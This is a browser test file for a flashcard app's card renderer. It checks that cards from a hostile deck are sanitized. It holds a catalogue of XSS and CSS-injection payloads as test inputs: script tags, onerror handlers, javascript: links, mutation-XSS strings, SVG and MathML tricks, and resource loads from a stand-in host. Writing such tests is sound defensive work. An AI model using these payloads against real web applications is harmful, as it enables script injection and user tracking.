import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildPage } from '../builtPage.ts';
import type { BuiltPage, OpenedPage } from '../builtPage.ts';
import type { CardFacePage } from './cardFacePage.tsx';

const HOSTILE_CSS = `
  @import "https://evil.test/a.css";
  @font-face { font-family: evil; src: url(https://evil.test/f.woff2) }
  body, h1, button, .card, :root { display: none; color: rgb(1, 2, 3) }
  :host { position: fixed !important; inset: 0; z-index: 99999 }
  :host-context(body) { display: none }
  .card { display: block; font-family: evil; background: url(https://evil.test/b.png); color: rgb(4, 5, 6) }
  @keyframes appear { from { background-image: url(https://evil.test/c.png) } }
  .card { animation: appear 1s infinite; list-style-image: url(//evil.test/d.png) }`;

type Globals = { readonly cardFacePage: CardFacePage; ran?: unknown };

describe('in a real browser', () => {
  let built: BuiltPage;
  let opened: OpenedPage;
  let page: Page;
  beforeAll(async () => {
    built = await buildPage('ui/cardFacePage.tsx');
    // What the policy forbids a second time is here to be seen once.
    opened = await built.open({ withoutPolicy: true });
    ({ page } = opened);
  }, 60_000);
  afterAll(() => built?.close());

  /** Shows a card, gives what is in it the time to do harm, and says what is there then. */
  async function show(html: string, css = '') {
    const shown = await page.evaluate(
      ([front, style]) => (globalThis as unknown as Globals).cardFacePage.show(front, style),
      [html, css] as const,
    );
    await page.waitForTimeout(60);
    return shown;
  }
  const inFace = <T>(read: (root: ShadowRoot) => T): Promise<T> =>
    page.evaluate(`(${String(read)})(document.querySelector('.card-html > div').shadowRoot)`) as Promise<T>;
  /** Whatever a card tried: nothing ran, the page is where and what it was, and nobody was asked for anything. */
  async function harmless() {
    expect(await page.evaluate(() => (globalThis as unknown as Globals).ran)).toBeUndefined();
    expect(page.url()).toBe('http://page.test/');
    await expect.poll(() => page.locator('#title').textContent()).toBe('Study');
    expect(opened.asked.splice(0)).toEqual([]);
    expect(opened.faults.splice(0)).toEqual([]);
  }

  describe('a card of a hostile deck', () => {
    const RUN = 'globalThis.ran = true';
    it.each([
      ['scripts', `<script>${RUN}</script><script src="https://evil.test/x.js"></script>text`],
      ['event handlers', `<b onclick="${RUN}" onmouseover="${RUN}">text</b><img src=x onerror="${RUN}">`],
      ['handlers of what loads', `<body onload="${RUN}"><details open ontoggle="${RUN}">text</details>`],
      ['links that run', `<a href="javascript:${RUN}">text</a><a href=" java&#10;script:${RUN}">two</a>`],
      ['links to data', `<a href="data:text/html,<script>${RUN}</script>">text</a>`],
      ['forms', `<form action="https://evil.test/"><input name="q" autofocus><button>text</button></form>`],
      [
        'frames',
        `<iframe src="https://evil.test/"></iframe><iframe srcdoc="<script>top.ran=1</script>"></iframe>text`,
      ],
      [
        'embedded things',
        `<object data="https://evil.test/x"></object><embed src="https://evil.test/y">text`,
      ],
      [
        'drawings with scripts',
        `<svg onload="${RUN}"><script>${RUN}</script><use href="https://evil.test/#a"/></svg>text`,
      ],
      [
        'drawings that animate a link',
        `<svg><a><animate attributeName="href" values="javascript:${RUN}"/>link</a></svg>text`,
      ],
      [
        'formulas with links that run',
        `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">text</maction></math>`,
      ],
      ['a way elsewhere', `<meta http-equiv="refresh" content="0;url=https://evil.test/">text`],
      ['another base', `<base href="https://evil.test/">text<img src="a.png">`],
      [
        'sheets of the network',
        `<link rel="stylesheet" href="https://evil.test/x.css"><link rel="prefetch" href="https://evil.test/">text`,
      ],
      ['sheets in the card', `<style>@import url(https://evil.test/x.css); * { display: none }</style>text`],
      [
        'pictures of the network',
        `<img src="https://evil.test/a.png" srcset="//evil.test/b.png 2x">text<img src="//evil.test/c.png">`,
      ],
      [
        'pictures named otherwise',
        `<picture><source srcset="https://evil.test/a.webp"><img src="b.png"></picture><input type=image src="https://evil.test/b">text`,
      ],
      [
        'backgrounds of the network',
        `<table background="https://evil.test/a.png"><tr><td style="background:url(https://evil.test/b.png)">text</td></tr></table>`,
      ],
      [
        'styles that hide a URL',
        `<p style="color:red;background-color:u\\72l(https://evil.test/);list-style-image:url(//evil.test)">text</p>`,
      ],
      [
        'sound and film',
        `<video src="https://evil.test/a.mp4" autoplay poster="https://evil.test/p.png"></video><audio src="https://evil.test/b.mp3" autoplay></audio>text`,
      ],
      [
        'templates and shadows',
        `<template shadowrootmode="open"><script>${RUN}</script></template><div>text</div>`,
      ],
      [
        'markup that changes when read twice',
        `text<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
      ],
      [
        'unknown elements',
        `<x-card onclick="${RUN}">text<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
      ],
    ])('does nothing with %s, and its words stay', async (_name, html) => {
      const { text, html: left } = await show(html);
      expect(text).toContain('text');
      expect(left).not.toMatch(
        /<(?:script|iframe|object|embed|form|input|style|link|meta|base|svg|video|audio|template)\b/i,
      );
      expect(left).not.toMatch(/\son\w+=|javascript:|evil\.test/i);
      // Whatever can be clicked is clicked.
      await page.locator('#face').click({ force: true });
      await page.waitForTimeout(30);
      await harmless();
    });

    it('is told where a picture of the network was left out', async () => {
      const { text } = await show(
        '<img src="https://evil.test/a.png" alt="a map"><img src="//evil.test/b.png">',
      );
      expect(text).toBe(
        '[A picture from the network is not shown: a map][A picture from the network is not shown]',
      );
      await harmless();
    });

    it('covers nothing of the page: no fixed place, no size beyond its own', async () => {
      await show(
        '<div style="position:fixed;inset:0;z-index:99999;width:9999px;height:9999px;background-color:red">text</div>',
        '.card, .card * { position: fixed !important; inset: 0 !important; z-index: 99999 !important; width: 400vw; height: 400vh }',
      );
      const { over, position } = await page.evaluate(() => {
        const button = document.querySelector('button')!.getBoundingClientRect();
        const at = document.elementFromPoint(button.x + 5, button.y + 5);
        const host = document.querySelector('.card-html > div')!;
        return {
          over: at?.textContent,
          position: host.shadowRoot!.querySelector<HTMLElement>('.card > div')!.style.position,
        };
      });
      expect(over).toBe('Outside');
      expect(position).toBe('');
      expect(
        await page.evaluate(
          () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
        ),
      ).toBe(0);
      await harmless();
    });

    it('changes nothing outside of itself by its notetype’s style, and loads nothing by it', async () => {
      // What a sheet points to the page's policy refuses.
      const strict = await built.open();
      const { over, ...seen } = await strict.page.evaluate((css) => {
        (globalThis as unknown as Globals).cardFacePage.show('text', css);
        const face = document.querySelector('.card-html > div')!;
        return {
          title: getComputedStyle(document.querySelector('h1')!).display,
          button: getComputedStyle(document.querySelector('button')!).display,
          body: getComputedStyle(document.body).color,
          card: getComputedStyle(face.shadowRoot!.querySelector('.card')!).color,
          over: document.elementFromPoint(
            document.querySelector('button')!.getBoundingClientRect().x + 5,
            document.querySelector('button')!.getBoundingClientRect().y + 5,
          )?.textContent,
        };
      }, HOSTILE_CSS);
      await strict.page.waitForTimeout(100);
      expect(seen).toMatchObject({ title: 'block', button: 'inline-block', card: 'rgb(4, 5, 6)' });
      expect(seen.body).not.toBe('rgb(1, 2, 3)');
      expect(over).toBe('Outside');
      expect(strict.asked).toEqual([]);
      await strict.page.close();
    });

    it('takes no names from the page', async () => {
      await show(
        '<a id="cardFacePage" name="ran">text</a><img name="getElementById"><form id="document"></form>',
      );
      expect(await page.evaluate(() => typeof (globalThis as unknown as Globals).cardFacePage.show)).toBe(
        'function',
      );
      expect(
        await page.evaluate(
          () =>
            document.querySelector('.card-html > div')!.shadowRoot!.querySelectorAll('[id], [name]').length,
        ),
      ).toBe(0);
      await harmless();
    });

    it('is read however deep it is nested', async () => {
      await show(`${'<div>'.repeat(20_000)}text`);
      await show(`${'<b><i>'.repeat(3000)}text`);
      await show('<table>'.repeat(2000) + 'text');
      const { text } = await show('after it');
      expect(text).toBe('after it');
      await harmless();
    });
  });

  describe('a card of a good deck', () => {
    it('keeps ruby, formulas, tables, lists and plain styles', async () => {
      const { html, text } = await show(
        `<ruby>食<rt>た</rt></ruby><math><mfrac><mi>a</mi><mn>2</mn></mfrac></math>
         <table><tbody><tr><th colspan="2">head</th></tr><tr><td>one</td></tr></tbody></table>
         <ol><li>first</li></ol><span style="color: rgb(255, 0, 0); font-weight: bold">red</span>
         <font color="blue">old</font><bdo dir="rtl">ab</bdo><sup>2</sup><kbd>K</kbd>`,
      );
      for (const tag of [
        'ruby',
        'rt',
        'mfrac',
        'th colspan="2"',
        'td',
        'li',
        'bdo dir="rtl"',
        'sup',
        'kbd',
      ]) {
        expect(html).toContain(`<${tag}>`);
      }
      expect(text).toContain('red');
      const style = await inFace((root) => {
        const { color, fontWeight } = getComputedStyle(root.querySelector('span')!);
        return [color, fontWeight];
      });
      expect(style).toEqual(['rgb(255, 0, 0)', '700']);
      await harmless();
    });

    it('has the colours that its notetype has for the dark', async () => {
      await show('text', '.card { color: rgb(1, 1, 1) } .nightMode { color: rgb(2, 2, 2) }');
      const colour = () => inFace((root) => getComputedStyle(root.querySelector('.card')!).color);
      await expect.poll(() => colour()).toBe('rgb(1, 1, 1)');
      await page.evaluate(() => (document.documentElement.dataset['theme'] = 'dark'));
      await expect.poll(colour).toBe('rgb(2, 2, 2)');
      await page.evaluate(() => delete document.documentElement.dataset['theme']);
      await expect.poll(colour).toBe('rgb(1, 1, 1)');
    });

    it('shows the deck’s own pictures and plays its own sounds, by name', async () => {
      await show(
        '<img src="서울%20map.png"><img src="data:image/png;base64,iVBORw0KGgo=">before [sound:사과 1.mp3] after',
      );
      const media = await inFace((root) => ({
        pictures: [...root.querySelectorAll('img')].map((image) => image.src),
        sound: root.querySelector('button')!.getAttribute('aria-label'),
        text: root.textContent,
      }));
      expect(media.pictures[0]).toBe(
        `tracedeck-media://deck/${encodeURIComponent('서울 map.png'.normalize('NFC'))}`,
      );
      expect(media.pictures[1]).toMatch(/^data:image\/png/);
      expect(media.sound).toBe('Play 사과 1.mp3');
      expect(media.text).toContain('before ▶ after');
      const played = await page.evaluate(async () => {
        const sources: string[] = [];
        const BrowserAudio = globalThis.Audio;
        globalThis.Audio = class {
          constructor(source: string) {
            sources.push(source);
          }
          play() {
            return Promise.resolve();
          }
        } as unknown as typeof Audio;
        document.querySelector('.card-html > div')!.shadowRoot!.querySelector('button')!.click();
        globalThis.Audio = BrowserAudio;
        return sources;
      });
      expect(played).toEqual([`tracedeck-media://deck/${encodeURIComponent('사과 1.mp3'.normalize('NFC'))}`]);
    });

    it('covers what is asked for on a picture, and nothing of anybody else is drawn', async () => {
      const { html } = await show(
        `<div class="occlusion"><img src="data:image/png;base64,iVBORw0KGgo=" width="200" height="100">
         <svg class="occlusion-masks" width="100%" height="100%" onload="globalThis.ran = true" style="position: fixed">
         <rect x="10%" y="20%" width="30%" height="50%" class="mask-asked" fill="url(https://evil.test/#a)"></rect>
         <svg width="100%" height="100%" viewBox="0 0 1 1" preserveAspectRatio="none"><polygon points="0,0 1,0 1,1"
           class="mask-other" fill="#ffeba2" vector-effect="non-scaling-stroke"></polygon></svg>
         <text x="1%" y="2%" class="mask-text">label</text>
         <a href="javascript:1"><image href="https://evil.test/a.png"/></a><use href="//evil.test/#a"/><foreignObject><p>in</p></foreignObject>
         <animate attributeName="href" values="javascript:1"/></svg></div><svg><rect width="9" height="9"/><text>words</text></svg>`,
        '#image-occlusion-canvas { --active-shape-color: rgb(1, 2, 3) }',
      );
      expect(html).not.toMatch(/evil|<(?:a|image|use|foreignObject|animate)\b|onload|style=/i);
      expect(html.match(/<svg/g)).toHaveLength(2);
      expect(html).toContain('words');
      const seen = await inFace((root) => {
        const rect = root.querySelector('rect')!;
        const [picture, mask] = [root.querySelector('img')!, rect].map((one) => one.getBoundingClientRect());
        return {
          fill: getComputedStyle(rect).fill,
          other: getComputedStyle(root.querySelector('polygon')!).fill,
          at: [mask!.left - picture!.left, mask!.top - picture!.top, mask!.width, mask!.height].map(
            Math.round,
          ),
        };
      });
      expect(seen).toEqual({ fill: 'rgb(1, 2, 3)', other: 'rgb(255, 235, 162)', at: [20, 20, 60, 50] });
      await harmless();
    });

    it('has the pictures and fonts of its notetype out of the deck, and none of the network', async () => {
      await show(
        '<p>text</p><i style="font-family: stroke order">text</i>',
        `@font-face { font-family: 'Stroke Order'; src: url("_strokes 1.ttf"), url(https://evil.test/f.ttf) }
         @import url(_more.css);
         @media all { .card { background: no-repeat url('_서울.png'), url(u\\72l.png), url("https://evil.test/a.png") } }
         p { font: 20px "stroke order", serif; background-image: url( _b.png ) }
         i::before { content: url(//evil.test/c.png) }
         body { background: url(data:image/png;base64,iVBORw0KGgo=) }`,
      );
      const seen = await inFace((root) => ({
        card: getComputedStyle(root.querySelector('.card')!).backgroundImage,
        p: getComputedStyle(root.querySelector('p')!).backgroundImage,
        before: getComputedStyle(root.querySelector('i')!, '::before').content,
        fonts: ['p', 'i'].map((tag) => getComputedStyle(root.querySelector(tag)!).fontFamily),
        faces: [...document.fonts].map(({ family }) => family),
      }));
      const own = (name: string) =>
        `url("tracedeck-media://deck/${encodeURIComponent(name.normalize('NFC'))}")`;
      expect(seen).toMatchObject({
        card: `${own('_서울.png')}, ${own('url.png')}, url("data:,")`,
        p: own('_b.png'),
        before: 'url("data:,")',
        fonts: ['"deck: stroke order", serif', '"deck: stroke order"'],
      });
      expect(seen.faces.map((family) => family.replaceAll('"', ''))).toContain('deck: Stroke Order');
      await page.waitForTimeout(60);
      const asked = opened.asked.splice(0).filter((url) => !url.startsWith('tracedeck-media://deck/'));
      expect(asked).toEqual([]);
      opened.faults.splice(0);
    });

    it('opens its links elsewhere, and none but those of the web', async () => {
      await show(
        '<a href="https://example.org/">one</a><a href="file:///etc/passwd">two</a><a href="page.html">three</a>',
      );
      const links = await inFace((root) =>
        [...root.querySelectorAll('a')].map((link) => [link.getAttribute('href'), link.target, link.rel]),
      );
      expect(links).toEqual([
        ['https://example.org/', '_blank', 'noopener noreferrer'],
        [null, '', ''],
        [null, '', ''],
      ]);
    });

    it('asks one gap and fills it in', async () => {
      const gaps = (revealed: boolean) =>
        page.evaluate(
          (shown) =>
            (globalThis as unknown as Globals).cardFacePage.show(
              '<p>{{c1::<b>서울</b>}} is in {{c2::Korea::where}}</p>',
              '',
              { cloze: 2, type: 'cloze' },
              shown,
            ),
          revealed,
        );
      expect((await gaps(false)).text).toBe('서울 is in [where]');
      expect((await gaps(true)).text).toBe('서울 is in Korea');
    });
  });

  describe('cards that a search finds', () => {
    it('are read in blocks, each once, and no more of 100,000 are kept than are near', async () => {
      const { first, again, held, near, far, finds } = await page.evaluate(async () => {
        const search = (globalThis as unknown as Globals).cardFacePage.found(100_000);
        await search.settle();
        search.need(0, 30);
        search.need(10, 60);
        await search.settle();
        search.need(0, 99);
        await search.settle();
        const firstAsked = [...search.asked];
        search.need(250, 310);
        await search.settle();
        const askedAgain = search.asked.length;
        for (let from = 0; from < 100_000; from += 500) {
          search.need(from, from + 40);
          await search.settle();
        }
        return {
          first: firstAsked,
          again: askedAgain,
          held: search.held(),
          near: search.front(99_500),
          far: search.front(0),
          finds: search.finds(),
        };
      });
      expect(first).toEqual([100_000]);
      expect(again).toBe(3);
      expect(held).toBeLessThanOrEqual(60);
      expect(near).toBe('front 500');
      expect(far).toBeUndefined();
      expect(finds).toBe(1);
    });

    it('stay in sight while they are read again after a change, and go where others are found', async () => {
      const seen = await page.evaluate(async () => {
        const search = (globalThis as unknown as Globals).cardFacePage.found(300);
        await search.settle();
        search.need(0, 20);
        await search.settle();
        search.changed(1);
        await search.settle();
        const kept = search.front(0);
        search.need(0, 20);
        await search.settle();
        const readAgain = search.asked.length;
        search.changed(2, Uint32Array.of(7, 8));
        await search.settle();
        const gone = search.front(0);
        search.need(0, 20);
        await search.settle();
        return { kept, readAgain, gone, now: search.front(0) };
      });
      expect(seen).toEqual({ kept: 'front 300', readAgain: 2, gone: undefined, now: 'front 7' });
    });
  });
});
